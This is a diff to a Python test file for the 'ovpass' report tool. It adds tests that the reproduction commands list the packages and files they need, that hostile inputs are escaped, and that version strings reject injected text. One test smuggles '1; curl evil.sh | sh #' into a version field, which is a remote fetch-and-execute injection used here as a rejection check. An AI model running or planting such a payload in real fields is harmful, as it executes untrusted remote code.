@@ -8,10 +8,10 @@ from dataclasses import replace
 import pytest
 
 from ovpass.ir.files import open_source
+from ovpass.report.again import commands, files
 from ovpass.report.compare import compare
 from ovpass.report.map import draw_maps
 from ovpass.report.page import render, render_comparison
-from ovpass.report.provenance import commands
 from ovpass.report.rules import rules_for
 from ovpass.report.runs import RunError
 from ovpass.report.sites import left_out
@@ -138,7 +138,8 @@ def test_everything_hostile_is_escaped_everywhere() -> None:
     for entry in (*runs[1]["decisions"], *runs[5]["plan"]["decisions"]):
         entry.update(kind=HOSTILE, reason=HOSTILE)
     for run in runs:
-        run["run"].update(arguments=[HOSTILE], files={HOSTILE: HOSTILE}, openvino=HOSTILE)
+        run["run"].update(arguments=[HOSTILE], files={HOSTILE: HOSTILE})
+        run["run"]["inputs"] = [{"path": HOSTILE, "bytes": 1, "sha256": HOSTILE}]
         run["run"]["models"][0]["path"] = HOSTILE
     for page in (render(side(runs), HOSTILE), render_comparison(side(runs), side(runs), HOSTILE)):
         assert "<img" not in page
@@ -162,6 +163,33 @@ def test_commands_repeat_the_runs() -> None:
     files = [line.rpartition("> ")[2] for line in lines if " > " in line]
     assert len(set(files)) == len(runs)
     assert all(name in lines[-1] for name in files)
+
+
+def test_commands_name_what_they_need() -> None:
+    """Packages, and files: two of one name are told apart."""
+    first, second, third = plan(NAMES), evaluate(), evaluate()
+    first["run"]["files"], second["run"]["files"] = {"a.yaml": "group_size: 64"}, {"a.yaml": "group_size: 32"}
+    third["run"].update(files=first["run"]["files"], inputs=[{"path": "a\nb", "bytes": 7, "sha256": "12ab"}])
+    seen = verify(plan(NAMES))
+    shown = side([first, second, third, seen])
+    text = commands(shown.runs, note="a note")
+    lines = text.splitlines()
+    assert "pip install '.[eval,report]' openvino==2026.4.1" in lines
+    assert any(line.startswith("apt-get install") for line in lines)
+    saved = [line.rpartition(" ")[2] for line in lines if "a.yaml" in line and line.startswith("#")]
+    marks = [name.rpartition(" ")[2] for name, _ in files(shown.runs)]
+    assert saved == [marks[0], marks[1], marks[0]]
+    assert [content for _, content in files(shown.runs)] == ["group_size: 64", "group_size: 32"]
+    assert any(line.startswith('# Reads "a\\nb", 7 bytes') and "12ab" in line for line in lines)
+    assert "--note 'a note'" in lines[-1]
+
+
+@pytest.mark.parametrize("package", ["ovpass", "openvino"])
+def test_versions_are_nothing_else(package: str) -> None:
+    run = plan(NAMES)
+    run["run"][package] = "1; curl evil.sh | sh #"
+    with pytest.raises(RunError, match=package):
+        side([run])
 
 
 def test_what_tune_chose_is_the_plan_where_no_other_is_given() -> None:
